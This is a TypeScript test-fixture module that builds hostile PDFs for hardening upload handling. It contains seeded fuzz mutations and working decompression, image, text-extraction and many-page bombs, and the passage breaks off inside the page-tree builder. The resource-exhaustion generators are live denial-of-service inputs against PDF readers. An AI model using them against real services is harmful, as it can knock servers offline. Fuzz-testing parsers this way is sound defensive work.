/**
 * Hostile PDFs generated in code, for proving that no upload can hurt a server: seeded fuzz
 * mutations of real files, and files built to exhaust a reader (decompression bombs in an object
 * stream, a content stream or an image, a text-extraction bomb, 100,000 pages, deep nesting,
 * page-tree cycles, a page count that lies, a loop of cross-reference sections).
 *
 * Everything is deterministic (same arguments, same bytes), built as raw PDF text with a correct
 * cross-reference table (never through pdf-lib, which would take minutes and gigabytes on the
 * big ones), and memory-light: a bomb's compressed stream is produced from one reused chunk, so
 * making a 1 GiB bomb never holds 1 GiB.
 *
 * ```ts
 * import { HostileFixtures } from "@formwright/testing"
 *
 * const bomb = await HostileFixtures.objectStreamBomb(512 * 1024 * 1024) // about 0.5 MB
 * const broken = HostileFixtures.mutate(corpusBytes, 42)                  // { kind, detail, bytes }
 * ```
 */
import { constants, createDeflateRaw, deflateSync, inflateSync } from "node:zlib"

// ---------------------------------------------------------------------------------------------
// A small seeded PRNG

/** A seeded source of pseudo-random numbers (mulberry32): the same seed gives the same sequence. */
export interface Random {
  /** A number in [0, 1). */
  readonly next: () => number
  /** An integer in [0, n). */
  readonly int: (n: number) => number
  /** An integer in [min, max]. */
  readonly range: (min: number, max: number) => number
  /** One element of a non-empty list. */
  readonly pick: <A>(items: ReadonlyArray<A>) => A
  /** True with probability `p`. */
  readonly chance: (p: number) => boolean
}

/** The PRNG for `seed` (any number; only its low 32 bits count). */
export const random = (seed: number): Random => {
  let state = seed >>> 0
  const next = () => {
    state = (state + 0x6d2b79f5) >>> 0
    let t = state
    t = Math.imul(t ^ (t >>> 15), t | 1)
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61)
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
  }
  const int = (n: number) => Math.floor(next() * n)
  return {
    next,
    int,
    range: (min, max) => min + int(max - min + 1),
    pick: (items) => items[int(items.length)]!,
    chance: (p) => next() < p
  }
}

/** A seed derived from a run's seed and a case number, so case `i` of seed `s` can be replayed alone. */
export const caseSeed = (seed: number, index: number): number => {
  let h = Math.imul((seed >>> 0) ^ 0x9e3779b9, 0x85ebca6b) ^ Math.imul(index + 1, 0xc2b2ae35)
  h ^= h >>> 16
  h = Math.imul(h, 0x7feb352d)
  h ^= h >>> 15
  return h >>> 0
}

// ---------------------------------------------------------------------------------------------
// Mutations

/** The kinds of damage `mutate` does, one per seed. */
export const mutationKinds = [
  "flip", // random bytes XORed, anywhere or near the start or end (where the structure is)
  "truncate", // the file cut short, often inside the trailer or the last object
  "duplicate", // a chunk repeated, once or many times, somewhere
  "splice", // the head of one file and the tail of another (or of itself)
  "xref", // a cross-reference offset, a `startxref` or an `n`/`f` flag changed
  "objectNumber", // an `N G obj` header or an `N G R` reference renumbered
  "number", // any integer (a /Length, /Count, /Size, /W, /N, /First, /Prev ...) set to a hostile value
  "zero", // a range of bytes set to zero
  "objectStream" // the header of an /ObjStm (object numbers and offsets) corrupted, recompressed
] as const

/** One of `mutationKinds`. */
export type MutationKind = (typeof mutationKinds)[number]

/** One mutated file: what was done (to report and replay a failure) and the bytes. */
export interface Mutation {
  readonly kind: MutationKind
  /** What exactly changed, e.g. `flip 3 bytes near the end`. */
  readonly detail: string
  readonly bytes: Uint8Array
}

/** What `mutate` may use besides the file and the seed. */
export interface MutateOptions {
  /** The other file of a `splice` (the file itself when absent). */
  readonly donor?: Uint8Array | undefined
  /** This kind instead of the one the seed picks. */
  readonly kind?: MutationKind | undefined
}

const latin1 = (bytes: Uint8Array, start = 0, end = bytes.length) => Buffer.from(bytes.buffer, bytes.byteOffset + start, end - start).toString("latin1")
const encode = (text: string): Uint8Array => Buffer.from(text, "latin1")

const concat = (parts: ReadonlyArray<Uint8Array>): Uint8Array => {
  const out = Buffer.concat(parts as Array<Uint8Array>)
  return new Uint8Array(out.buffer, out.byteOffset, out.length)
}

/** A region of the file to damage: anywhere, or the start or end where a reader looks first. */
const region = (rng: Random, length: number): { start: number; end: number; where: string } => {
  const span = Math.min(length, 4096)
  const roll = rng.int(4)
  if (roll === 0) return { start: 0, end: span, where: "near the start" }
  if (roll === 1) return { start: length - span, end: length, where: "near the end" }
  return { start: 0, end: length, where: "anywhere" }
}

/** Integers a parser may not expect where it finds a number (never `original` itself). */
const hostileNumber = (rng: Random, original: number): number => {
  const value = rng.pick([0, -1, 1, original + 1, original - 1, original * 2, original * 1000 + 7, 2 ** 31 - 1, 2 ** 31, 2 ** 32 + 1, 999_999_999, 10 ** 15])
  return value === original ? original + 1 : value
}

/** Occurrences of `pattern` (a global regex) in a window of the file around a random place. */
const matchesNear = (bytes: Uint8Array, rng: Random, pattern: RegExp, windowSize = 256 * 1024): Array<{ index: number; match: RegExpExecArray }> => {
  const start = bytes.length <= windowSize ? 0 : rng.int(bytes.length - windowSize)
  const text = latin1(bytes, start, Math.min(bytes.length, start + windowSize))
  const found: Array<{ index: number; match: RegExpExecArray }> = []
  pattern.lastIndex = 0
  for (let m = pattern.exec(text); m !== null && found.length < 10_000; m = pattern.exec(text)) {
    found.push({ index: start + m.index, match: m })
    if (m[0].length === 0) pattern.lastIndex++
  }
  return found
}

/** `bytes` with [start, end) replaced by `replacement`. */
const replace = (bytes: Uint8Array, start: number, end: number, replacement: Uint8Array): Uint8Array =>
  concat([bytes.subarray(0, start), replacement, bytes.subarray(end)])

/** `value` written in exactly `width` digits when it fits (so offsets stay put), else as it is. */
const sameWidth = (value: number, width: number): string => {
  const text = String(value)
  return value >= 0 && text.length < width ? text.padStart(width, "0") : text
}

const flip = (bytes: Uint8Array, rng: Random): Mutation => {
  const out = bytes.slice()
  const { start, end, where } = region(rng, out.length)
  const count = rng.chance(0.7) ? rng.range(1, 8) : rng.range(9, 256)
  for (let i = 0; i < count; i++) out[start + rng.int(end - start)]! ^= rng.range(1, 255)
  return { kind: "flip", detail: `flip ${count} byte(s) ${where}`, bytes: out }
}

const truncate = (bytes: Uint8Array, rng: Random): Mutation => {
  const at = rng.chance(0.5) ? Math.max(1, bytes.length - rng.range(1, Math.min(bytes.length - 1, 2048))) : rng.range(1, bytes.length - 1)
  return { kind: "truncate", detail: `truncate to ${at} of ${bytes.length} bytes`, bytes: bytes.slice(0, at) }
}

const duplicate = (bytes: Uint8Array, rng: Random): Mutation => {
  const start = rng.int(bytes.length)
  const length = rng.range(1, Math.min(bytes.length - start, rng.chance(0.5) ? 256 : 64 * 1024))
  // Few copies of a big chunk, up to thousands of a small one; at most 4 MiB more.
  const times = Math.max(1, Math.min(rng.chance(0.8) ? rng.range(1, 4) : rng.range(5, 5000), Math.floor((4 * 1024 * 1024) / length)))
  const at = rng.chance(0.5) ? start + length : rng.int(bytes.length + 1)
  const chunk = bytes.subarray(start, start + length)
  const copies = new Uint8Array(length * times)
  for (let i = 0; i < times; i++) copies.set(chunk, i * length)
  return { kind: "duplicate", detail: `repeat bytes ${start}..${start + length} ${times} time(s) at ${at}`, bytes: replace(bytes, at, at, copies) }
}

const splice = (bytes: Uint8Array, rng: Random, donor: Uint8Array): Mutation => {
  const head = rng.range(1, bytes.length)
  const tail = rng.int(donor.length)
  return {
    kind: "splice",
    detail: `first ${head} bytes + donor from ${tail} (${donor === bytes ? "itself" : `a ${donor.length}-byte file`})`,
    bytes: concat([bytes.subarray(0, head), donor.subarray(tail)])
  }
}

const xref = (bytes: Uint8Array, rng: Random): Mutation => {
  const tailStart = Math.max(0, bytes.length - 1024 * 1024)
  const entries = rng.chance(0.7) ? matchesNear(bytes.subarray(tailStart), rng, /(\d{10}) (\d{5}) ([nf])/g) : []
  if (entries.length > 0) {
    const { index, match } = rng.pick(entries)
    const at = tailStart + index
    const offset = Number(match[1])
    const roll = rng.int(3)
    const entry = roll === 0
      ? `${match[1]} ${match[2]} ${match[3] === "n" ? "f" : "n"}`
      : `${sameWidth(roll === 1 ? rng.int(bytes.length + 1) : Math.max(0, offset + rng.pick([-1, 1]) * rng.range(1, 16)), 10)} ${match[2]} ${match[3]}`
    return { kind: "xref", detail: `xref entry at ${at}: '${match[0]}' -> '${entry}'`, bytes: replace(bytes, at, at + match[0].length, encode(entry.slice(0, 20))) }
  }
  const starts = matchesNear(bytes.subarray(tailStart), rng, /startxref\s+(\d+)/g, 1024 * 1024)
  if (starts.length === 0) return flip(bytes, rng)
  const { index, match } = starts[starts.length - 1]!
  const old = Number(match[1])
  const value = rng.pick([0, rng.int(bytes.length), old + rng.range(1, 64), Math.max(0, old - rng.range(1, 64)), bytes.length + 1000])
  const at = tailStart + index + match[0].length - match[1]!.length
  return { kind: "xref", detail: `startxref ${old} -> ${value}`, bytes: replace(bytes, at, at + match[1]!.length, encode(String(value))) }
}

const objectNumber = (bytes: Uint8Array, rng: Random): Mutation => {
  const headers = rng.chance(0.6)
  const found = matchesNear(bytes, rng, headers ? /(\d+)(\s+)(\d+)(\s+)obj\b/g : /(\d+)(\s+)(\d+)(\s+)R\b/g)
  if (found.length === 0) return number(bytes, rng)
  const { index, match } = rng.pick(found)
  const original = Number(match[1])
  const picked = rng.pick([0, original + 1, rng.int(original * 2 + 2), 2 ** 31, 8_388_608, 99_999_999])
  const renumbered = picked === original ? original + 1 : picked
  const generation = rng.chance(0.2) ? rng.pick([1, 65535, 65536]) : Number(match[3])
  const text = `${sameWidth(renumbered, match[1]!.length)}${match[2]}${generation}${match[4]}${headers ? "obj" : "R"}`
  return { kind: "objectNumber", detail: `'${match[0]}' at ${index} -> '${text}'`, bytes: replace(bytes, index, index + match[0].length, encode(text)) }
}

const number = (bytes: Uint8Array, rng: Random): Mutation => {
  // Integers that follow a name or open an array, where the structure lives (/Length 123, [0 0 612 792]).
  const found = matchesNear(bytes, rng, /(\/[A-Za-z]+\s*\[?\s*)(-?\d+)(?=[\s\]>\/])/g)
  if (found.length === 0) return flip(bytes, rng)
  const { index, match } = rng.pick(found)
  const original = Number(match[2])
  const value = hostileNumber(rng, original)
  const at = index + match[1]!.length
  return {
    kind: "number",
    detail: `'${match[0]}' at ${index}: ${original} -> ${value}`,
    bytes: replace(bytes, at, at + match[2]!.length, encode(sameWidth(value, match[2]!.length)))
  }
}

const zero = (bytes: Uint8Array, rng: Random): Mutation => {
  const out = bytes.slice()
  const start = rng.int(out.length)
  const length = rng.range(1, Math.min(out.length - start, rng.chance(0.8) ? 4096 : 1024 * 1024))
  out.fill(0, start, start + length)
  return { kind: "zero", detail: `zero bytes ${start}..${start + length}`, bytes: out }
}

/**
 * Decompresses one /ObjStm, corrupts a number of its header (the `objnum offset` pairs a reader
 * trusts), recompresses it and writes it back in place: the errors of pdf.js's object-stream
 * parser ("invalid object number in the ObjStm stream") come from exactly this.
 */
const objectStream = (bytes: Uint8Array, rng: Random): Mutation => {
  const found = matchesNear(bytes, rng, /\/Type\s*\/ObjStm/g, bytes.length)
  if (found.length === 0) return number(bytes, rng)
  const { index } = rng.pick(found)
  // The object's dictionary starts before /Type; its stream keyword follows.
  const dictStart = latin1(bytes, Math.max(0, index - 2048), index).lastIndexOf(" obj")
  const from = dictStart < 0 ? index : Math.max(0, index - 2048) + dictStart
  const after = latin1(bytes, from, Math.min(bytes.length, index + 4096))
  const streamAt = after.search(/stream\r?\n/)
  if (streamAt < 0) return number(bytes, rng)
  const dataStart = from + streamAt + (after[streamAt + 6] === "\r" ? 8 : 7)
  const endAt = Buffer.from(bytes.buffer, bytes.byteOffset, bytes.length).indexOf("endstream", dataStart, "latin1")
  if (endAt < 0) return number(bytes, rng)
  let decoded: Buffer
  try {
    decoded = inflateSync(bytes.subarray(dataStart, endAt), { maxOutputLength: 32 * 1024 * 1024, finishFlush: constants.Z_SYNC_FLUSH })
  } catch {
    return number(bytes, rng)
  }
  const firstMatch = /\/First\s+(\d+)/.exec(after.slice(0, streamAt))
  const first = firstMatch ? Math.min(Number(firstMatch[1]), decoded.length) : Math.min(decoded.length, 256)
  const header = decoded.subarray(0, first).toString("latin1")
  const integers = [...header.matchAll(/\d+/g)]
  if (integers.length === 0) return number(bytes, rng)
  const target = rng.pick(integers)
  const original = Number(target[0])
  const picked = rng.pick([0, 2 ** 31, original + 1, Math.max(0, original - 1), decoded.length + 10, 99_999_999])
  const value = picked === original ? original + 1 : picked
  const newHeader = header.slice(0, target.index) + sameWidth(value, target[0].length) + header.slice(target.index + target[0].length)
  const recompressed = deflateSync(concat([encode(newHeader), decoded.subarray(first)]))
  const old = endAt - dataStart
  // In place when it fits (the rest of the file keeps its offsets): the stream padded with line
  // feeds, which a reader skips before `endstream`; else the file grows and offsets shift.
  const data = recompressed.length <= old ? concat([recompressed, new Uint8Array(old - recompressed.length).fill(0x0a)]) : recompressed
  let out = replace(bytes, dataStart, endAt, data)
  const lengthMatch = /\/Length\s+(\d+)(?!\s+\d+\s+R)/.exec(after.slice(0, streamAt))
  if (lengthMatch && recompressed.length > old) {
    const at = from + lengthMatch.index + lengthMatch[0].length - lengthMatch[1]!.length
    out = replace(out, at, at + lengthMatch[1]!.length, encode(String(recompressed.length)))
  }
  return { kind: "objectStream", detail: `object stream at ${from}: header number ${original} -> ${value}`, bytes: out }
}

/**
 * The file damaged in one of the `mutationKinds` ways, chosen and carried out by `seed`: the
 * same file and seed always give the same bytes, so a failure is replayed from its seed.
 * Cheap on big files (each kind looks at a window of the file at most 1 MiB wide); the result is
 * at most about 4 MiB larger than the larger input.
 */
export const mutate = (bytes: Uint8Array, seed: number, options: MutateOptions = {}): Mutation => {
  if (bytes.length < 2) return { kind: "flip", detail: "file too small to mutate; unchanged", bytes: bytes.slice() }
  const rng = random(seed)
  const kind = options.kind ?? rng.pick(mutationKinds)
  switch (kind) {
    case "flip": return flip(bytes, rng)
    case "truncate": return truncate(bytes, rng)
    case "duplicate": return duplicate(bytes, rng)
    case "splice": return splice(bytes, rng, options.donor && options.donor.length > 0 ? options.donor : bytes)
    case "xref": return xref(bytes, rng)
    case "objectNumber": return objectNumber(bytes, rng)
    case "number": return number(bytes, rng)
    case "zero": return zero(bytes, rng)
    case "objectStream": return objectStream(bytes, rng)
  }
}

// ---------------------------------------------------------------------------------------------
// Flate output of huge runs, without holding them

/** Part of a stream's decoded data: literal bytes, or `length` bytes of `pattern` repeated. */
export type DecodedPart = Uint8Array | { readonly pattern: Uint8Array; readonly length: number }

const ADLER_BASE = 65521n

/** Adler-32 state (a, b) as BigInts so the closed forms below cannot overflow. */
interface Adler {
  a: bigint
  b: bigint
}

const adlerUpdate = (state: Adler, bytes: Uint8Array) => {
  let a = Number(state.a)
  let b = Number(state.b)
  for (let i = 0; i < bytes.length; i++) {
    a = (a + bytes[i]!) % 65521
    b = (b + a) % 65521
  }
  state.a = BigInt(a)
  state.b = BigInt(b)
}

/**
 * Adds `times` copies of `chunk` in closed form. One chunk from (a, b) gives a + S and
 * b + L*a + W (S the byte sum, W the sum of its prefix sums), so k chunks give
 * a + k*S and b + k*L*a + L*S*k(k-1)/2 + k*W, all modulo 65521.
 */
const adlerRepeat = (state: Adler, chunk: Uint8Array, times: number) => {
  let s = 0
  let w = 0
  for (let i = 0; i < chunk.length; i++) {
    s = (s + chunk[i]!) % 65521
    w = (w + s) % 65521
  }
  const sum = BigInt(s)
  const weighted = BigInt(w)
  const length = BigInt(chunk.length)
  const k = BigInt(times)
  const a0 = state.a
  state.a = (a0 + k * sum) % ADLER_BASE
  state.b = (state.b + k * length * a0 + length * sum * ((k * (k - 1n)) / 2n) + k * weighted) % ADLER_BASE
}

const CHUNK = 1024 * 1024

/** `pattern` repeated to a chunk of about 1 MiB (a whole number of patterns). */
const patternChunk = (pattern: Uint8Array): Uint8Array => {
  if (pattern.length === 0) throw new Error("an empty pattern cannot fill a stream")
  const copies = Math.max(1, Math.floor(CHUNK / pattern.length))
  const chunk = new Uint8Array(copies * pattern.length)
  for (let i = 0; i < copies; i++) chunk.set(pattern, i * pattern.length)
  return chunk
}

const equalBytes = (x: Uint8Array, y: Uint8Array) => x.length === y.length && Buffer.compare(x, y) === 0
const SYNC_MARKER = Uint8Array.of(0x00, 0x00, 0xff, 0xff)
const endsWithSync = (x: Uint8Array) => x.length >= 4 && equalBytes(x.subarray(x.length - 4), SYNC_MARKER)

/**
 * The zlib (FlateDecode) encoding of `parts` concatenated, built without ever holding the
 * decoded data: each run is fed to zlib one reused chunk at a time. Once the compressor's window
 * holds nothing but the run, every further chunk compresses to the same bytes (checked, not
 * assumed: the output of chunks 2, 3 and 4 must be identical and byte-aligned), so those bytes are
 * repeated instead of compressed again; 1 GiB of one byte takes milliseconds and gives about 1 MB.
 */
export const deflateParts = async (parts: ReadonlyArray<DecodedPart>): Promise<Uint8Array> => {
  const deflater = createDeflateRaw({ level: 9, memLevel: 9 })
  let pending: Array<Buffer> = []
  let failure: Error | undefined
  deflater.on("data", (b: Buffer) => pending.push(b))
  deflater.on("error", (e: Error) => (failure = e))
  const take = () => {
    const out = Buffer.concat(pending)
    pending = []
    return out
  }
  // Everything written so far, compressed and byte-aligned (a sync flush).
  const feed = (bytes: Uint8Array) =>
    new Promise<Buffer>((resolve, reject) => {
      deflater.write(bytes)
      deflater.flush(constants.Z_SYNC_FLUSH, () => (failure ? reject(failure) : resolve(take())))
    })
  const output: Array<Uint8Array> = [Uint8Array.of(0x78, 0xda)]
  const adler: Adler = { a: 1n, b: 0n }
  for (const part of parts) {
    if (part instanceof Uint8Array) {
      output.push(await feed(part))
      adlerUpdate(adler, part)
      continue
    }
    const chunk = patternChunk(part.pattern)
    let whole = Math.floor(part.length / chunk.length)
    const rest = part.length - whole * chunk.length
    if (whole >= 4) {
      const first = await feed(chunk)
      const second = await feed(chunk)
      const third = await feed(chunk)
      const fourth = await feed(chunk)
      output.push(first, second, third, fourth)
      adlerRepeat(adler, chunk, 4)
      whole -= 4
      if (endsWithSync(second) && equalBytes(second, third) && equalBytes(third, fourth)) {
        for (let i = 0; i < whole; i++) output.push(fourth)
        adlerRepeat(adler, chunk, whole)
        whole = 0
      }
    }
    // Short runs, or a compressor whose output did not settle: compress every chunk.
    for (; whole > 0; whole--) {
      output.push(await feed(chunk))
      adlerRepeat(adler, chunk, 1)
    }
    if (rest > 0) {
      output.push(await feed(chunk.subarray(0, rest)))
      adlerUpdate(adler, chunk.subarray(0, rest))
    }
  }
  // The final block arrives before the readable side ends (the callback of `end` comes earlier).
  const last = await new Promise<Buffer>((resolve, reject) => {
    deflater.once("end", () => (failure ? reject(failure) : resolve(take())))
    deflater.end()
  })
  output.push(last)
  const checksum = Number((adler.b << 16n) | adler.a) >>> 0
  output.push(Uint8Array.of(checksum >>> 24, (checksum >>> 16) & 0xff, (checksum >>> 8) & 0xff, checksum & 0xff))
  return concat(output)
}

/** The decoded length of `parts`. */
export const decodedLength = (parts: ReadonlyArray<DecodedPart>): number =>
  parts.reduce((sum, part) => sum + (part instanceof Uint8Array ? part.length : part.length), 0)

// ---------------------------------------------------------------------------------------------
// A raw PDF writer

/**
 * Builds a PDF object by object with exact byte offsets, then a classic cross-reference table
 * or a cross-reference stream. Object numbers must be 1..n without gaps.
 */
class RawPdf {
  private readonly parts: Array<Uint8Array> = []
  private length = 0
  private readonly offsets: Array<number> = []

  constructor(version = "1.7") {
    this.write(`%PDF-${version}\n%\xe2\xe3\xcf\xd3\n`)
  }

  write(data: string | Uint8Array) {
    const bytes = typeof data === "string" ? encode(data) : data
    this.parts.push(bytes)
    this.length += bytes.length
  }

  get size() {
    return this.length
  }

  object(num: number, body: string) {
    this.offsets[num] = this.length
    this.write(`${num} 0 obj\n${body}\nendobj\n`)
  }

  stream(num: number, dict: string, data: Uint8Array) {
    this.offsets[num] = this.length
    this.write(`${num} 0 obj\n<< ${dict} /Length ${data.length} >>\nstream\n`)
    this.write(data)
    this.write(`\nendstream\nendobj\n`)
  }

  /** Makes the cross-reference entry of `num` give the offset of `other`: a bad entry. */
  misplace(num: number, other: number) {
    this.offsets[num] = this.offsets[other]!
  }

  private checkContiguous(count: number) {
    for (let i = 1; i < count; i++) if (this.offsets[i] === undefined) throw new Error(`object ${i} was never written`)
  }

  /** A classic xref table and trailer; `trailer` holds the keys besides /Size (e.g. `/Root 1 0 R`). */
  finish(trailer: string, options: { prev?: "self" } = {}): Uint8Array {
    const count = this.offsets.length
    this.checkContiguous(count)
    const xrefAt = this.length
    const lines: Array<string> = [`xref\n0 ${count}\n0000000000 65535 f\r\n`]
    for (let i = 1; i < count; i++) lines.push(`${String(this.offsets[i]).padStart(10, "0")} 00000 n\r\n`)
    this.write(lines.join(""))
    const prev = options.prev === "self" ? ` /Prev ${xrefAt}` : ""
    this.write(`trailer\n<< /Size ${count} ${trailer}${prev} >>\nstartxref\n${xrefAt}\n%%EOF\n`)
    return concat(this.parts)
  }

  /**
   * A cross-reference stream (object `num`, written last) and no trailer dictionary;
   * `compressed` maps the objects stored in object streams to [stream number, index].
   */
  finishWithStream(num: number, trailer: string, compressed: ReadonlyMap<number, readonly [number, number]>): Uint8Array {
    const count = num + 1
    const xrefAt = this.length
    this.offsets[num] = xrefAt
    for (let i = 1; i < num; i++) if (this.offsets[i] === undefined && !compressed.has(i)) throw new Error(`object ${i} was never written`)
    // /W [1 4 2]: type, offset or object-stream number, generation or index.
    const rows = new Uint8Array(count * 7)
    const view = new DataView(rows.buffer)
    for (let i = 0; i < count; i++) {
      const at = i * 7
      const inStream = compressed.get(i)
      if (i === 0) {
        rows[at] = 0
        view.setUint16(at + 5, 65535)
      } else if (inStream) {
        rows[at] = 2
        view.setUint32(at + 1, inStream[0])
        view.setUint16(at + 5, inStream[1])
      } else {
        rows[at] = 1
        view.setUint32(at + 1, this.offsets[i]!)
      }
    }
    this.write(`${num} 0 obj\n<< /Type /XRef /Size ${count} /W [1 4 2] ${trailer} /Length ${rows.length} >>\nstream\n`)
    this.write(rows)
    this.write(`\nendstream\nendobj\nstartxref\n${xrefAt}\n%%EOF\n`)
    return concat(this.parts)
  }
}

const MEDIA_BOX = "/MediaBox [0 0 612 792]"
const HELVETICA = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"

/** A one-page PDF whose page draws `content` (raw, unfiltered), with the font /F1. */
const onePage = (content: string, extraCatalog = ""): Uint8Array => {
  const pdf = new RawPdf()
  pdf.object(1, `<< /Type /Catalog /Pages 2 0 R${extraCatalog} >>`)
  pdf.object(2, `<< /Type /Pages /Kids [3 0 R] /Count 1 >>`)
  pdf.object(3, `<< /Type /Page /Parent 2 0 R ${MEDIA_BOX} /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>`)
  pdf.object(4, HELVETICA)
  pdf.stream(5, "", encode(content))
  return pdf.finish("/Root 1 0 R")
}

// ---------------------------------------------------------------------------------------------
// Hostile documents

const MiB = 1024 * 1024

/**
 * A valid one-page PDF whose page tree root and /AcroForm live in an object stream
 * (/Type /ObjStm, FlateDecode) that inflates to `decodedBytes`: every reader must inflate it to
 * find the pages. The second object sits at the very end of the stream, behind a run of spaces,
 * so no reader reaches it without decoding everything. 512 MiB give a file of about 0.5 MB.
 */
export const objectStreamBomb = async (decodedBytes: number = 512 * MiB): Promise<Uint8Array> => {
  const pages = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
  const acroForm = "<< /Fields [] >>"
  // The header has a fixed width, so the offsets it states do not change its own length.
  const headerWidth = 40
  const secondAt = decodedBytes - headerWidth - acroForm.length - 1
  if (secondAt < pages.length + 1) throw new Error(`objectStreamBomb needs at least ${headerWidth + pages.length + acroForm.length + 2} bytes`)
  const header = `2 0 5 ${secondAt}`.padEnd(headerWidth, " ")
  const data = await deflateParts([
    encode(header + pages),
    { pattern: encode(" "), length: secondAt - pages.length },
    encode(`${acroForm}\n`)
  ])
  const pdf = new RawPdf()
  pdf.object(1, "<< /Type /Catalog /Pages 2 0 R /AcroForm 5 0 R >>")
  pdf.object(3, `<< /Type /Page /Parent 2 0 R ${MEDIA_BOX} /Resources << >> >>`)
  pdf.stream(4, `/Type /ObjStm /N 2 /First ${headerWidth} /Filter /FlateDecode`, data)
  return pdf.finishWithStream(6, "/Root 1 0 R", new Map([[2, [4, 0] as const], [5, [4, 1] as const]]))
}

/** What fills a content-stream bomb: whitespace (cheap to parse) or `q Q` pairs (an operator every 2 bytes). */
export type BombFill = "whitespace" | "operators"

/**
 * A valid one-page PDF whose page content stream (FlateDecode) inflates to `decodedBytes`: a line
 * of text, then whitespace or harmless `q Q` operators. 1 GiB gives a file of about 1 MB.
 */
export const contentStreamBomb = async (decodedBytes: number = 1024 * MiB, fill: BombFill = "whitespace"): Promise<Uint8Array> => {
  const head = encode("BT /F1 24 Tf 72 720 Td (Content stream bomb) Tj ET\n")
  const tail = encode("\n")
  const run = decodedBytes - head.length - tail.length
  if (run < 0) throw new Error(`contentStreamBomb needs at least ${head.length + tail.length} bytes`)
  const data = await deflateParts([head, { pattern: encode(fill === "whitespace" ? " " : "q Q\n"), length: run }, tail])
  const pdf = new RawPdf()
  pdf.object(1, "<< /Type /Catalog /Pages 2 0 R >>")
  pdf.object(2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
  pdf.object(3, `<< /Type /Page /Parent 2 0 R ${MEDIA_BOX} /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>`)
  pdf.object(4, HELVETICA)
  pdf.stream(5, "/Filter /FlateDecode", data)
  return pdf.finish("/Root 1 0 R")
}

/**
 * A valid one-page PDF drawing a `width` x `height` 8-bit grey image whose FlateDecode data
 * inflates to width * height bytes (16,000 x 16,000: 244 MiB, under a 256 MiB stream limit, in
 * about 250 KB): harmless to read, costly to render.
 */
export const imageBomb = async (width = 16_000, height = 16_000): Promise<Uint8Array> => {
  const data = await deflateParts([{ pattern: Uint8Array.of(0x80), length: width * height }])
  const pdf = new RawPdf()
  pdf.object(1, "<< /Type /Catalog /Pages 2 0 R >>")
  pdf.object(2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
  pdf.object(3, `<< /Type /Page /Parent 2 0 R ${MEDIA_BOX} /Resources << /XObject << /Im0 4 0 R >> >> /Contents 5 0 R >>`)
  pdf.stream(4, `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode`, data)
  pdf.stream(5, "", encode("q 512 0 0 692 50 50 cm /Im0 Do Q\n"))
  return pdf.finish("/Root 1 0 R")
}

/** The shape of `textBomb`: fanOut^depth * runsPerLeaf text items. */
export interface TextBombOptions {
  /** How many times each form XObject draws the one below it. */
  readonly fanOut?: number | undefined
  /** Levels of form XObjects above the leaf. */
  readonly depth?: number | undefined
  /** Text runs (Tj) each leaf draws. */
  readonly runsPerLeaf?: number | undefined
}

/**
 * A small valid one-page PDF whose text extraction explodes: nested Form XObjects, each drawing
 * the one below it `fanOut` times, down to a leaf that draws `runsPerLeaf` text runs. The page
 * shows fanOut^depth * runsPerLeaf text items (10^7 by default) from a file of about 2 KB.
 */
export const textBomb = (options: TextBombOptions = {}): Uint8Array => {
  const fanOut = options.fanOut ?? 10
  const depth = options.depth ?? 7
  const runs = options.runsPerLeaf ?? 1
  const pdf = new RawPdf()
  // 1 catalog, 2 pages, 3 page, 4 font, 5 page content, 6.. the XObjects (6 is the leaf).
  const xobject = (level: number) => 6 + level
  pdf.object(1, "<< /Type /Catalog /Pages 2 0 R >>")
  pdf.object(2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
  pdf.object(3, `<< /Type /Page /Parent 2 0 R ${MEDIA_BOX} /Resources << /Font << /F1 4 0 R >> /XObject << /X${depth} ${xobject(depth)} 0 R >> >> /Contents 5 0 R >>`)
  pdf.object(4, HELVETICA)
  pdf.stream(5, "", encode(`/X${depth} Do\n`))
  const form = "/Type /XObject /Subtype /Form /BBox [0 0 612 792]"
  const leaf = Array.from({ length: runs }, (_, i) => `BT /F1 10 Tf 72 ${700 - (i % 60) * 10} Td (Text bomb run ${i}) Tj ET`).join("\n")
  pdf.stream(xobject(0), `${form} /Resources << /Font << /F1 4 0 R >> >>`, encode(leaf))
  for (let level = 1; level <= depth; level++) {
    const draws = Array.from({ length: fanOut }, () => `/X${level - 1} Do`).join("\n")
    pdf.stream(xobject(level), `${form} /Resources << /Font << /F1 4 0 R >> /XObject << /X${level - 1} ${xobject(level - 1)} 0 R >> >>`, encode(draws))
  }
  return pdf.finish("/Root 1 0 R")
}

/**
 * A valid PDF with `n` pages, each showing one line of text (one shared content stream), in a
 * balanced page tree of `fanOut` kids per node (`fanOut >= n` gives one flat /Kids array).
 * 100,000 pages take about 8 MB and a fraction of a second.
 */
export const manyPages = (n: number, options: { fanOut?: number } = {}): Uint8Array => {
  if (!Number.isInteger(n) || n < 1) throw new Error("manyPages needs at least one page")
  const fanOut = Math.max(2, options.fanOut ?? 100)
  const pdf = new RawPdf()
  // 1 catalog, 2 root, 3 font, 4 content, then the pages, then the intermediate nodes.
  pdf.object(1, "<< /Type /Catalog /Pages 2 0 R >>")
  const firstPage = 5
  // The tree, bottom-up: groups of `fanOut` nodes under a new parent until one root remains.
  const parentOf = new Map<number, number>()
  const kidsOf = new Map<number, { kids: Array<number>; count: number }>()
  let level = Array.from({ length: n }, (_, i) => ({ num: firstPage + i, count: 1 }))
  let next = firstPage + n
  while (level.length > fanOut) {
    const up: Array<{ num: number; count: number }> = []
    for (let i = 0; i < level.length; i += fanOut) {
      const group = level.slice(i, i + fanOut)
      const num = next++
      const count = group.reduce((s, g) => s + g.count, 0)
      kidsOf.set(num, { kids: group.map((g) => g.num), count })
      for (const g of group) parentOf.set(g.num, num)
      up.push({ num, count })
    }
    level = up
  }
  kidsOf.set(2, { kids: level.map((g) => g.num), count: n })
  for (const g of level) parentOf.set(g.num, 2)
  const node = (num: number) => {
    const { count, kids } = kidsOf.get(num)!
    const parent = num === 2 ? "" : ` /Parent ${parentOf.get(num)} 0 R`
